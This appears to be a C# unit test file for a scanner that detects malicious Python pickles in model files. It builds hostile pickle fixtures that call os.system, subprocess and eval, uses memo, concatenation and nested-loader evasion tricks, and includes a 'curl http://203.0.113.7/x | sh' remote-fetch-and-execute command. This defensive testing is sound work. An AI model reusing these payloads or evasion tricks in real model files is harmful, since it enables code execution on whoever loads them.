using System.Text;
using AiCtiPortal.Engine.Artifacts;
using AiCtiPortal.Engine.Tests.Artifacts.Builders;
using static AiCtiPortal.Engine.Artifacts.FindingCodes;

namespace AiCtiPortal.Engine.Tests.Artifacts;

public sealed class PickleAnalysisTests
{
    [Theory]
    [InlineData(2)]
    [InlineData(3)]
    [InlineData(4)]
    [InlineData(5)]
    public void Os_system_through_GLOBAL_and_REDUCE_is_malicious(int protocol)
    {
        var report = Scans.Run(PickleBuilder.CallWithString("os", "system", "id", protocol));

        Assert.Equal(ArtifactFormat.Pickle, report.Format);
        Assert.Equal(ScanVerdict.Malicious, report.Verdict);
        var finding = Scans.Single(report, PickleDeniedGlobal);
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Equal(new ExtractedIndicator("PickleImport", "os.system"), finding.Indicator);
        Assert.Equal(2, finding.Location.Offset);
        Assert.Contains("'id'", finding.Evidence, StringComparison.Ordinal);
        Assert.Contains("os.system", report.PickleImports);
    }

    [Fact]
    public void Protocol_0_text_pickle_without_PROTO_is_detected_and_judged()
    {
        byte[] pickle = Encoding.ASCII.GetBytes("cposix\nsystem\np0\n(S'echo pwned'\np1\ntp2\nRp3\n.");

        var report = Scans.Run(pickle, "weights.safetensors");

        Assert.Equal(ArtifactFormat.Pickle, report.Format);
        Scans.Has(report, PickleDeniedGlobal, Severity.Critical);
        var call = Assert.Single(report.PickleCalls, c => c.Kind == "REDUCE");
        Assert.Equal("posix.system", call.Callable);
        Assert.Contains("echo pwned", call.Arguments, StringComparison.Ordinal);
    }

    [Fact]
    public void STACK_GLOBAL_with_strings_from_the_memo_is_resolved()
    {
        // The strings are memoised early, buried under other values, and fetched back with BINGET and LONG_BINGET:
        // scanners that walk back over the opcode list see no string operands next to STACK_GLOBAL.
        var pickle = new PickleBuilder().Proto(4)
            .Unicode("subprocess").Memoize().Pop()
            .Unicode("check_output").BinPut(7).Pop()
            .Unicode("decoy").Pop()
            .BinGet(0).LongBinGet(7).StackGlobal()
            .Unicode("whoami").Tuple1().Reduce().Stop().ToArray();

        var report = Scans.Run(pickle);

        var finding = Scans.Single(report, PickleDeniedGlobal);
        Assert.Equal("subprocess.check_output", finding.Indicator!.Value);
        Assert.Contains(report.PickleCalls, c => c.Callable == "subprocess.check_output" && c.Arguments.Contains("whoami", StringComparison.Ordinal));
    }

    [Fact]
    public void STACK_GLOBAL_with_strings_duplicated_and_taken_from_containers_is_resolved()
    {
        var pickle = new PickleBuilder().Proto(4)
            .Unicode("builtins").Dup().Pop()
            .Mark().Unicode("eval").Tuple().Pop()
            .Unicode("eval").StackGlobal()
            .Unicode("1+1").Tuple1().Reduce().Stop().ToArray();

        var report = Scans.Run(pickle);

        Assert.Equal("builtins.eval", Scans.Single(report, PickleDeniedGlobal).Indicator!.Value);
    }

    [Fact]
    public void STACK_GLOBAL_with_computed_operands_is_unresolved_and_malicious()
    {
        // module name = str.join('', ['o', 's']) computed at load time: nothing static can name it.
        var pickle = new PickleBuilder().Proto(4)
            .Unicode("builtins").Unicode("str.join").StackGlobal()
            .Unicode(string.Empty).Mark().Unicode("o").Unicode("s").List().Tuple2().Reduce()
            .Unicode("system").StackGlobal()
            .Unicode("id").Tuple1().Reduce().Stop().ToArray();

        var report = Scans.Run(pickle);

        var finding = Scans.Single(report, PickleUnresolvedGlobal);
        Assert.Equal(Severity.High, finding.Severity);
        Assert.Contains("builtins.str.join", finding.Evidence, StringComparison.Ordinal);
        Assert.Equal(ScanVerdict.Malicious, report.Verdict);
    }

    [Fact]
    public void Calling_the_result_of_a_call_is_a_dynamic_call()
    {
        var pickle = new PickleBuilder().Proto(2)
            .Global("builtins", "getattr").Global("builtins", "object").Unicode("__subclasses__").Tuple2().Reduce()
            .EmptyTuple().Reduce().Stop().ToArray();

        var report = Scans.Run(pickle);

        Assert.Contains("<result of builtins.getattr>", Scans.Single(report, PickleDynamicCall).Evidence, StringComparison.Ordinal);
        Scans.Has(report, PickleDeniedGlobal, Severity.Critical);
    }

    [Fact]
    public void INST_imports_and_calls_in_one_opcode()
    {
        byte[] pickle = Encoding.ASCII.GetBytes("(S'ls'\nios\nsystem\n.");

        var report = Scans.Run(pickle);

        Scans.Has(report, PickleDeniedGlobal, Severity.Critical);
        Assert.Contains(report.PickleCalls, c => c.Kind == "INST" && c.Callable == "os.system");
    }

    [Fact]
    public void OBJ_NEWOBJ_and_NEWOBJ_EX_calls_are_recorded_with_their_classes()
    {
        var pickle = new PickleBuilder().Proto(4)
            .Mark().Global("subprocess", "Popen").Unicode("sh").Obj().Pop()
            .Global("mypkg.models", "Net").EmptyTuple().NewObj().Pop()
            .Global("mypkg.models", "Head").EmptyTuple().EmptyDict().NewObjEx()
            .Stop().ToArray();

        var report = Scans.Run(pickle);

        Assert.Contains(report.PickleCalls, c => c.Kind == "OBJ" && c.Callable == "subprocess.Popen");
        Assert.Contains(report.PickleCalls, c => c.Kind == "NEWOBJ" && c.Callable == "mypkg.models.Net");
        Assert.Contains(report.PickleCalls, c => c.Kind == "NEWOBJ_EX" && c.Callable == "mypkg.models.Head");
        Assert.Equal(2, report.Findings.Count(f => f.Code == PickleUnknownGlobal && f.Severity == Severity.Medium));
        Scans.Has(report, PickleDeniedGlobal);
    }

    [Fact]
    public void Unknown_globals_make_a_pickle_suspicious_not_malicious()
    {
        var pickle = new PickleBuilder().Proto(2).Global("sklearn.linear_model", "LogisticRegression").EmptyTuple().Reduce().Stop().ToArray();

        var report = Scans.Run(pickle);

        Assert.Equal(ScanVerdict.Suspicious, report.Verdict);
        Assert.Equal("sklearn.linear_model.LogisticRegression", Scans.Single(report, PickleUnknownGlobal).Indicator!.Value);
    }

    [Fact]
    public void BUILD_on_an_imported_global_and_dunder_state_are_reported()
    {
        var pickle = new PickleBuilder().Proto(2)
            .Global("collections", "OrderedDict").EmptyDict().Unicode("__reduce__").None().SetItem().Build().Pop()
            .Global("collections", "OrderedDict").EmptyTuple().Reduce()
            .Mark().Unicode("__setstate__").Global("collections", "OrderedDict").Dict().Build()
            .Stop().ToArray();

        var report = Scans.Run(pickle);

        Scans.Has(report, PickleBuildOnGlobal, Severity.High);
        Assert.Equal(2, report.Findings.Count(f => f.Code == PickleDunderState));
        Assert.Contains(report.PickleCalls, c => c.Kind == "BUILD" && c.Callable == "collections.OrderedDict.__setstate__");
    }

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(4)]
    public void EXT_codes_cannot_be_resolved_statically(int width)
    {
        var p = new PickleBuilder().Proto(2);
        p = width switch { 1 => p.Ext1(0x2a), 2 => p.Ext2(0x1234), _ => p.Ext4(0x7fff_0000) };
        var report = Scans.Run(p.Unicode("id").Tuple1().Reduce().Stop().ToArray());

        var finding = Scans.Single(report, PickleExtensionCode);
        Assert.Equal(Severity.High, finding.Severity);
        Assert.Equal(ScanVerdict.Malicious, report.Verdict);
    }

    [Fact]
    public void Pickle_nested_in_bytes_passed_to_pickle_loads_is_analysed()
    {
        byte[] inner = PickleBuilder.CallWithString("os", "system", "curl http://203.0.113.7/x | sh");
        var outer = new PickleBuilder().Proto(3).Global("pickle", "loads").Bytes(inner).Tuple1().Reduce().Stop().ToArray();

        var report = Scans.Run(outer);

        Scans.Has(report, PickleNested, Severity.High);
        var nested = Assert.Single(report.Findings, f => f.Code == PickleDeniedGlobal && f.Indicator!.Value == "os.system");
        Assert.StartsWith("#nested@", nested.Location.Member, StringComparison.Ordinal);
        Assert.Equal(2, nested.Location.Offset);
        Assert.Contains(report.Findings, f => f.Code == PickleDeniedGlobal && f.Indicator!.Value == "pickle.loads");
        Assert.Contains(new ExtractedIndicator("IpAddress", "203.0.113.7"), report.Indicators);
        Assert.Contains(new ExtractedIndicator("Url", "http://203.0.113.7/x"), report.Indicators);
    }

    [Fact]
    public void Pickle_nested_in_BytesIO_for_torch_load_is_analysed_and_depth_is_bounded()
    {
        byte[] payload = PickleBuilder.CallWithString("nt", "system", "calc");
        for (int i = 0; i < 6; i++)
        {
            payload = new PickleBuilder().Proto(2).Global("torch", "load")
                .Global("io", "BytesIO").Bytes(payload).Tuple1().Reduce().Tuple1().Reduce().Stop().ToArray();
        }

        var report = Scans.Run(payload);

        Assert.Contains(report.Findings, f => f.Code == PickleNested && f.Title.Contains("too deep", StringComparison.Ordinal));
        Assert.Equal(ScanVerdict.Malicious, report.Verdict);
    }

    [Fact]
    public void Second_pickle_after_STOP_is_analysed_and_reported()
    {
        byte[] benign = new PickleBuilder().Proto(2).EmptyDict().Stop().ToArray();
        byte[] evil = PickleBuilder.CallWithString("webbrowser", "open", "https://evil.example.com/");

        var report = Scans.Run([.. benign, .. evil]);

        var concat = Scans.Single(report, PickleConcatenated);
        Assert.Equal(benign.Length, concat.Location.Offset);
        Assert.Equal(benign.Length + 2, Scans.Single(report, PickleDeniedGlobal).Location.Offset);
        Assert.Contains(new ExtractedIndicator("Domain", "evil.example.com"), report.Indicators);
    }

    [Fact]
    public void A_second_pickle_may_use_strings_memoised_by_the_first()
    {
        byte[] first = new PickleBuilder().Proto(4).Unicode("os").BinPut(0).Unicode("system").BinPut(1).Tuple2().Stop().ToArray();
        byte[] second = new PickleBuilder().Proto(4).BinGet(0).BinGet(1).StackGlobal().Unicode("id").Tuple1().Reduce().Stop().ToArray();

        var report = Scans.Run([.. first, .. second]);

        Assert.Equal("os.system", Scans.Single(report, PickleDeniedGlobal).Indicator!.Value);
    }

    [Fact]
    public void A_broken_second_pickle_is_still_judged_when_it_reaches_a_denied_import()
    {
        byte[] first = new PickleBuilder().Proto(2).EmptyDict().Stop().ToArray();
        byte[] second = [.. new PickleBuilder().Proto(2).Global("os", "system").Unicode("id").Tuple1().Reduce().ToArray(), 0xff];

        var report = Scans.Run([.. first, .. second]);

        Scans.Has(report, PickleDeniedGlobal, Severity.Critical);
        Scans.Has(report, PickleMalformed);
        Scans.Lacks(report, PickleTrailingData);
    }

    [Fact]
    public void Data_after_the_last_pickle_is_reported()
    {
        byte[] pickle = [.. new PickleBuilder().Proto(2).EmptyList().Stop().ToArray(), .. "\x00\x01garbage that is not a pickle"u8.ToArray()];

        var report = Scans.Run(pickle);

        Assert.Equal(4, Scans.Single(report, PickleTrailingData).Location.Offset);
        Assert.Equal(ScanVerdict.Suspicious, report.Verdict);
    }

    [Theory]
    [InlineData(new byte[] { 0x80, 0x02, 0xff, 0x2e }, "unknown opcode")]
    [InlineData(new byte[] { 0x80, 0x02, (byte)'R', 0x2e }, "underflow")]
    [InlineData(new byte[] { 0x80, 0x02, (byte)'t', 0x2e }, "MARK")]
    [InlineData(new byte[] { 0x80, 0x02, (byte)'h', 0x05, 0x2e }, "Memo")]
    [InlineData(new byte[] { 0x80, 0x02, (byte)'X', 0xff, 0xff, 0xff, 0x0f }, "truncated")]
    [InlineData(new byte[] { 0x80, 0x09, 0x2e }, "protocol")]
    [InlineData(new byte[] { 0x80, 0x04, 0x95, 0xff, 0, 0, 0, 0, 0, 0, 0, 0x2e }, "FRAME")]
    public void Malformed_streams_become_findings(byte[] pickle, string reason)
    {
        var report = Scans.Run(pickle);

        Assert.Equal(ArtifactFormat.Pickle, report.Format);
        Assert.Contains(reason, Scans.Single(report, PickleMalformed).Evidence, StringComparison.OrdinalIgnoreCase);
        Assert.Equal(ScanVerdict.Suspicious, report.Verdict);
    }

    [Fact]
    public void Calls_made_before_a_malformation_are_still_judged()
    {
        byte[] pickle = [.. new PickleBuilder().Proto(2).Global("os", "system").Unicode("id").Tuple1().Reduce().ToArray(), 0xff];

        var report = Scans.Run(pickle);

        Scans.Has(report, PickleMalformed);
        Scans.Has(report, PickleDeniedGlobal, Severity.Critical);
    }

    [Fact]
    public void Python_2_module_names_and_dunder_traversal_are_denied()
    {
        var aliased = Scans.Run(Encoding.ASCII.GetBytes("c__builtin__\neval\n(S'1'\ntR."));
        var traversal = Scans.Run(new PickleBuilder().Proto(4).Unicode("torch._utils").Unicode("_rebuild_tensor_v2.__globals__").StackGlobal().Stop().ToArray());

        Scans.Has(aliased, PickleDeniedGlobal, Severity.Critical);
        Scans.Has(traversal, PickleDeniedGlobal, Severity.Critical);
    }

    [Fact]
    public void Realistic_torch_state_dict_pickle_has_no_findings()
    {
        byte[] pickle = PickleBuilder.TorchStateDict(("fc.weight", "0", 4, 3), ("fc.bias", "1", 4, 1));

        var report = Scans.Run(pickle);

        Scans.Clean(report);
        Assert.Contains("torch._utils._rebuild_tensor_v2", report.PickleImports);
        Assert.Contains(report.PickleCalls, c => c.Kind == "BUILD");
    }

    [Fact]
    public void Every_opcode_of_protocols_0_to_5_is_executed_symbolically()
    {
        var p = new PickleBuilder().Proto(5).Frame(0)
            .Mark().None().Bool(true).Bool(false).IntLine("01").IntLine("42").LongLine("123456789012345678901234567890L")
            .Int(7).Int(300).Int(-5).Long1(1_000_000_000_000).Long4(-1).FloatLine("1.5").Float(2.5)
            .StringLine("'quoted\\x41'").ShortBinString("short").BinString("binstring").UnicodeLine("raw\\u00e9")
            .BinUnicode("binunicode").Unicode("short unicode").BinUnicode8("unicode8")
            .Bytes([1, 2, 3]).Bytes(new byte[300]).BinBytes8([4, 5]).ByteArray8([6]).NextBuffer().ReadOnlyBuffer()
            .Tuple()
            .Put(10).Pop().Get(10).BinPut(11).LongBinPut(12).Memoize().BinGet(11).LongBinGet(12).Pop().Pop()
            .EmptyTuple().Int(1).Tuple1().Int(1).Int(2).Tuple2().Int(1).Int(2).Int(3).Tuple3().Tuple3().Pop().Pop()
            .EmptyList().Int(1).Append().Mark().Int(2).Int(3).Appends().Mark().Int(4).List().Append().Pop()
            .EmptyDict().Unicode("a").Int(1).SetItem().Mark().Unicode("b").Int(2).SetItems().Mark().Unicode("c").Int(3).Dict().Pop().Pop()
            .EmptySet().Mark().Int(1).AddItems().Mark().Int(2).FrozenSet().Pop().Pop()
            .Mark().Int(9).PopMark()
            .PersId("storage0").Pop().Unicode("key").BinPersId().Pop()
            .Global("builtins", "set").EmptyTuple().Reduce().Pop()
            .Mark().Global("builtins", "slice").Int(1).Obj().Pop()
            .Mark().Inst("builtins", "frozenset").Pop()
            .Unicode("builtins").Unicode("bytearray").StackGlobal().EmptyTuple().NewObj().Pop()
            .Global("collections", "OrderedDict").EmptyTuple().EmptyDict().NewObjEx()
            .EmptyDict().Build()
            .Stop();

        var report = Scans.Run(p.ToArray());

        Assert.Equal(ArtifactFormat.Pickle, report.Format);
        Scans.Lacks(report, PickleMalformed);
        Assert.Equal(PickleOutOfBandBuffer, Assert.Single(report.Findings).Code);
        Assert.Equal(6, report.PickleCalls.Count);
    }

    [Fact]
    public void Operation_limit_stops_analysis_with_a_finding()
    {
        var p = new PickleBuilder().Proto(2).EmptyList();
        for (int i = 0; i < 5_000; i++)
        {
            p.Int(1).Append();
        }

        var report = Scans.Run(p.Stop().ToArray(), options: Scans.Fast with { MaxPickleOps = 1_000 });

        Scans.Has(report, PickleLimit);
    }

    [Fact]
    public void Retained_items_are_bounded_across_nested_containers_without_losing_imports()
    {
        // 64 lists of 64 lists of 8 items: far more retained items than the budget of 100.
        var p = new PickleBuilder().Proto(2).EmptyList();
        for (int i = 0; i < 64; i++)
        {
            p.EmptyList();
            for (int j = 0; j < 64; j++)
            {
                p.Mark().Int(1).Int(2).Int(3).Int(4).Int(5).Int(6).Int(7).Int(8).List().Append();
            }

            p.Append();
        }

        p.Pop().Global("os", "system").Unicode("id").Tuple1().Reduce().Stop();
        var report = Scans.Run(p.ToArray(), options: Scans.Fast with { MaxRetainedItems = 100 });

        Scans.Lacks(report, PickleMalformed);
        Scans.Has(report, PickleDeniedGlobal, Severity.Critical);
    }

    [Fact]
    public void URLs_in_a_benign_pickle_are_indicators_without_changing_the_verdict()
    {
        var pickle = new PickleBuilder().Proto(2).EmptyDict().Unicode("source").Unicode("see https://huggingface.co/org/model for details").SetItem().Stop().ToArray();

        var report = Scans.Run(pickle);

        Assert.Equal(ScanVerdict.NoFindings, report.Verdict);
        Assert.Contains(new ExtractedIndicator("Url", "https://huggingface.co/org/model"), report.Indicators);
        Assert.Contains(new ExtractedIndicator("Domain", "huggingface.co"), report.Indicators);
        Assert.All(report.Findings, f => Assert.Equal(Severity.Info, f.Severity));
    }

    [Fact]
    public void Legacy_torch_save_stream_with_raw_storages_has_no_findings()
    {
        var magic = new PickleBuilder().Proto(2).Long1(System.Numerics.BigInteger.Parse("1950A86A20F9469CFC6C", System.Globalization.NumberStyles.HexNumber)).Stop().ToArray();
        var version = new PickleBuilder().Proto(2).Int(1001).Stop().ToArray();
        var sysInfo = new PickleBuilder().Proto(2).EmptyDict().Unicode("little_endian").Bool(true).SetItem().Stop().ToArray();
        var model = PickleBuilder.TorchStateDict(("w", "0", 2, 2));
        var keys = new PickleBuilder().Proto(2).Mark().Unicode("0").List().Stop().ToArray();
        byte[] storage = [16, 0, 0, 0, 0, 0, 0, 0, .. new byte[64]];

        var report = Scans.Run([.. magic, .. version, .. sysInfo, .. model, .. keys, .. storage]);

        Assert.Equal(ArtifactFormat.PyTorchLegacy, report.Format);
        Scans.Clean(report);
        Assert.Single(report.Notes);
    }
}
